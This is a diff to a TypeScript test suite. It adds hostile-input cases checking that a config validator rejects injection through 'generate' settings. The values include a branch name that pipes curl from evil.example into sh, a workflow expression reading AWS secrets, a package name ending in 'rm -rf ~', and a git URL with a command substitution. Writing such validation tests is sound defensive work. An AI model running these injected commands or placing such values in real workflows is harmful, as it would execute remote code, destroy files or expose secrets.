@@ -166,6 +166,28 @@ const CONFIG: HostileCase[] = [
   ),
   config('consumer listed twice', edited('consumers:\n', 'consumers:\n  - account: "444455556666"\n'), /repeats consumers\[0\]\.account/),
   config('key given as a list', edited(/\nkey:/, '\nkey: [1, 2]\nkeyx:'), /key: must be a mapping|keyx/),
+  // generate's settings reach the generated workflows' YAML and shell: only a safe alphabet loads.
+  config(
+    'default branch running a command',
+    `${EXAMPLE}\ngenerate: { defaultBranch: 'main"; curl https://evil.example | sh; "' }\n`,
+    /generate\.defaultBranch: is not a git branch name/,
+  ),
+  config(
+    'default branch holding a workflow expression',
+    `${EXAMPLE}\ngenerate: { defaultBranch: "\${{ secrets.AWS }}" }\n`,
+    /generate\.defaultBranch: is not a git branch name/,
+  ),
+  config('keyshare package that is a shell command', `${EXAMPLE}\ngenerate: { keyshare: { package: "keyshare; rm -rf ~" } }\n`, /generate\.keyshare/),
+  config(
+    'keyshare git URL with a command substitution',
+    `${EXAMPLE}\ngenerate: { keyshare: { git: "https://example.com/$(id).git", commit: "${'a'.repeat(40)}" } }\n`,
+    /generate\.keyshare/,
+  ),
+  config(
+    'keyshare git URL at a branch',
+    `${EXAMPLE}\ngenerate: { keyshare: { git: "https://example.com/k.git", commit: "main" } }\n`,
+    /generate\.keyshare/,
+  ),
   // A finding, not bad input: the registry's policy-size rule is high, exit 1 (src/policy/rules.ts).
   {
     name: 'key policy too large for KMS',
